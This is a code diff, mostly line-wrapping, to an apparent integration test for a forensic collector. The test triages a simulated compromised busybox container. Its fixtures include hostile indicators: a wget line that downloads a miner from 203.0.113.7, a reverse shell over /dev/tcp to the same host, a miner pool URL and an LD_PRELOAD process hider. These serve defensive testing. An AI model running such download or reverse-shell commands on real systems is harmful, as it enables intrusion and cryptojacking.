@@ -6,11 +6,20 @@ import { createHash } from 'node:crypto';
 import { readdirSync, readFileSync, statSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { ArtifactCollector, type AcquisitionReport, type ProgressEvent } from '../../src/collect/index.js';
+import { type AcquisitionReport, ArtifactCollector, type ProgressEvent } from '../../src/collect/index.js';
 import { verifyEvidence } from '../../src/evidence/index.js';
 import { hostileProcesses } from '../../src/testing/sandbox/index.js';
 import { skipWithoutPeer } from '../support/peers.js';
-import { addSandboxPod, bundleJson, bundleText, collectedFile, type Env, filesIndex, sandboxMissing, startEnv } from './support.js';
+import {
+  addSandboxPod,
+  bundleJson,
+  bundleText,
+  collectedFile,
+  type Env,
+  filesIndex,
+  sandboxMissing,
+  startEnv,
+} from './support.js';
 
 const skip = skipWithoutPeer('bwrap', sandboxMissing());
 
@@ -49,7 +58,9 @@ describe.skipIf(skip)('triage of a compromised busybox container', () => {
         preset: 'busybox',
         files: {
           '/tmp/.x/xmrig': { content: MINER, executable: true },
-          '/tmp/.x/config.json': { content: '{"pools":[{"url":"stratum+tcp://pool.example.invalid:3333"}]}\n' },
+          '/tmp/.x/config.json': {
+            content: '{"pools":[{"url":"stratum+tcp://pool.example.invalid:3333"}]}\n',
+          },
           '/root/.ssh/authorized_keys': { content: AUTH_KEYS, mode: 0o600 },
           '/etc/ld.so.preload': { content: PRELOAD },
           '/etc/crontabs/root': { content: CRON },
@@ -58,13 +69,20 @@ describe.skipIf(skip)('triage of a compromised busybox container', () => {
           '/var/log/nginx/error.log': { content: '2026/11/22 connect() failed\n' },
           '/var/run/secrets/kubernetes.io/serviceaccount/token': { content: TOKEN },
           '/var/run/secrets/kubernetes.io/serviceaccount/namespace': { content: 'default' },
-          '/root/.ash_history': { content: 'wget http://203.0.113.7/x -O /tmp/.x/xmrig\nchmod +x /tmp/.x/xmrig\n' },
+          '/root/.ash_history': {
+            content: 'wget http://203.0.113.7/x -O /tmp/.x/xmrig\nchmod +x /tmp/.x/xmrig\n',
+          },
         },
         processes: hostileProcesses(),
       },
       { command: ['sleep', '86400'], logs: { current: 'GET / 200\nGET /.env 404\n' } },
     );
-    const collector = new ArtifactCollector({ sink: env.sink, profiles: ['triage'], caseId: 'CASE-1', examiner: 'tester' });
+    const collector = new ArtifactCollector({
+      sink: env.sink,
+      profiles: ['triage'],
+      caseId: 'CASE-1',
+      examiner: 'tester',
+    });
     collector.on('progress', (e) => events.push(e));
     report = await collector.acquire({ kube: env.kube, ...t });
     loc = report.targets[0]?.location ?? '';
@@ -83,7 +101,10 @@ describe.skipIf(skip)('triage of a compromised busybox container', () => {
     expect(r?.status, JSON.stringify(r?.reasons)).toBe('complete');
     const v = await verifyEvidence(loc);
     expect(v.ok, JSON.stringify(v)).toBe(true);
-    const custody = bundleJson<{ examiner: { kubernetesUser?: { username: string }; name?: string }; caseId: string }>(loc, 'custody.json');
+    const custody = bundleJson<{
+      examiner: { kubernetesUser?: { username: string }; name?: string };
+      caseId: string;
+    }>(loc, 'custody.json');
     expect(custody.examiner.kubernetesUser?.username).toBeTruthy();
     expect(custody.examiner.name).toBe('tester');
     expect(custody.caseId).toBe('CASE-1');
@@ -93,7 +114,9 @@ describe.skipIf(skip)('triage of a compromised busybox container', () => {
     const pod = bundleJson<{ metadata: { name: string } }>(loc, 'pod/pod.json');
     expect(pod.metadata.name).toBe(report.targets[0]?.target.pod);
     expect(bundleText(loc, 'pod/logs/app.log')).toContain('GET /.env 404');
-    const order = events.filter((e) => e.type === 'artifact-started').map((e) => (e as { path: string }).path);
+    const order = events
+      .filter((e) => e.type === 'artifact-started')
+      .map((e) => (e as { path: string }).path);
     const firstProc = order.findIndex((p) => p.includes('/proc/'));
     const firstListing = order.findIndex((p) => p.endsWith('files/listing.raw'));
     const firstContent = order.findIndex((p) => /files\/content-/.test(p));
@@ -103,26 +126,39 @@ describe.skipIf(skip)('triage of a compromised busybox container', () => {
   });
 
   it('finds the miner process, the reverse shell from a deleted binary and recovers its bytes', () => {
-    const procs = bundleJson<{ processes: { pid: number; cmdline?: string; exe?: string; exeDeleted: boolean }[] }>(loc, 'containers/app/proc/processes.json').processes;
+    const procs = bundleJson<{
+      processes: { pid: number; cmdline?: string; exe?: string; exeDeleted: boolean }[];
+    }>(loc, 'containers/app/proc/processes.json').processes;
     const miner = procs.find((p) => p.cmdline?.includes('xmrig'));
     expect(miner?.cmdline).toContain('stratum+tcp://pool.example.invalid:3333');
     expect(miner?.exeDeleted).toBe(true);
     const rs = procs.find((p) => p.exe?.startsWith('/var/tmp/.rs/sh'));
     expect(rs?.exe).toBe('/var/tmp/.rs/sh (deleted)');
     expect(rs?.cmdline).toContain('/dev/tcp/203.0.113.7/4444');
-    const manifest = bundleJson<{ artifacts: { path: string; sha256?: string; status: string }[] }>(loc, 'manifest.json');
+    const manifest = bundleJson<{ artifacts: { path: string; sha256?: string; status: string }[] }>(
+      loc,
+      'manifest.json',
+    );
     const exe = manifest.artifacts.find((a) => a.path === `containers/app/proc/${rs?.pid}/exe.bin`);
     expect(exe?.status).toBe('complete');
     expect(exe?.sha256).toBe(sha(readFileSync('/usr/bin/busybox')));
   });
 
   it('hashes environ values instead of storing them', () => {
-    const procs = bundleJson<{ processes: { pid: number; cmdline?: string }[] }>(loc, 'containers/app/proc/processes.json').processes;
+    const procs = bundleJson<{ processes: { pid: number; cmdline?: string }[] }>(
+      loc,
+      'containers/app/proc/processes.json',
+    ).processes;
     const kw = procs.find((p) => p.cmdline?.includes('kworker'));
-    const envJson = bundleJson<{ variables: { name: string; value: string }[] }>(loc, `containers/app/proc/${kw?.pid}/environ.json`);
+    const envJson = bundleJson<{ variables: { name: string; value: string }[] }>(
+      loc,
+      `containers/app/proc/${kw?.pid}/environ.json`,
+    );
     const ld = envJson.variables.find((v) => v.name === 'LD_PRELOAD');
     expect(ld?.value).toBe(`sha256:${sha('/usr/lib/libprocesshider.so')}`);
-    expect(envJson.variables.find((v) => v.name === 'AWS_SECRET_ACCESS_KEY')?.value).toBe(`sha256:${sha(ENV_SECRET)}`);
+    expect(envJson.variables.find((v) => v.name === 'AWS_SECRET_ACCESS_KEY')?.value).toBe(
+      `sha256:${sha(ENV_SECRET)}`,
+    );
   });
 
   it('copies each planted file indicator byte for byte', async () => {
@@ -130,7 +166,9 @@ describe.skipIf(skip)('triage of a compromised busybox container', () => {
     expect((await collectedFile(loc, '/etc/ld.so.preload'))?.toString()).toBe(PRELOAD);
     expect((await collectedFile(loc, '/etc/crontabs/root'))?.toString()).toBe(CRON);
     expect((await collectedFile(loc, '/tmp/.x/xmrig'))?.toString('latin1')).toBe(MINER);
-    expect((await collectedFile(loc, '/root/.ash_history'))?.toString()).toContain('wget http://203.0.113.7/x');
+    expect((await collectedFile(loc, '/root/.ash_history'))?.toString()).toContain(
+      'wget http://203.0.113.7/x',
+    );
     const rows = filesIndex(loc);
     expect(rows.find((r) => r.path === '/tmp/.x/xmrig')?.sha256).toBe(sha(Buffer.from(MINER, 'latin1')));
   });
@@ -139,7 +177,9 @@ describe.skipIf(skip)('triage of a compromised busybox container', () => {
     const row = filesIndex(loc).find((r) => r.path === '/var/log/nginx/access.log');
     expect(row?.status).toBe('link');
     expect(row?.linkTarget).toBe('/dev/stdout');
-    expect(bundleText(loc, 'containers/app/files/bodyfile.txt')).toMatch(/\|\/var\/log\/nginx\/access\.log\|\d+\|lrwxrwxrwx\|/);
+    expect(bundleText(loc, 'containers/app/files/bodyfile.txt')).toMatch(
+      /\|\/var\/log\/nginx\/access\.log\|\d+\|lrwxrwxrwx\|/,
+    );
   });
 
   it('keeps secrets out: shadow hashed, token reduced to claims, env secret absent everywhere', () => {
@@ -147,7 +187,10 @@ describe.skipIf(skip)('triage of a compromised busybox container', () => {
     const shadow = rows.find((r) => r.path === '/etc/shadow');
     expect(shadow?.status).toBe('hashed');
     expect(shadow?.sha256).toBe(sha(SHADOW));
-    const tokens = bundleJson<{ path: string; sha256: string; claims: { sub: string } }[]>(loc, 'containers/app/files/tokens.json');
+    const tokens = bundleJson<{ path: string; sha256: string; claims: { sub: string } }[]>(
+      loc,
+      'containers/app/files/tokens.json',
+    );
     const sa = tokens.find((t) => t.path === '/var/run/secrets/kubernetes.io/serviceaccount/token');
     expect(sa?.claims.sub).toBe('system:serviceaccount:default:app');
     expect(sa?.sha256).toBe(sha(TOKEN));
@@ -171,6 +214,8 @@ describe.skipIf(skip)('triage of a compromised busybox container', () => {
       expect(typeof e.stdoutBytes).toBe('number');
       expect(e).toHaveProperty('exitCode');
     }
-    expect(execs.map((e) => e.step)).toEqual(expect.arrayContaining(['probe', 'volatile', 'listing', 'process-bytes']));
+    expect(execs.map((e) => e.step)).toEqual(
+      expect.arrayContaining(['probe', 'volatile', 'listing', 'process-bytes']),
+    );
   });
 });
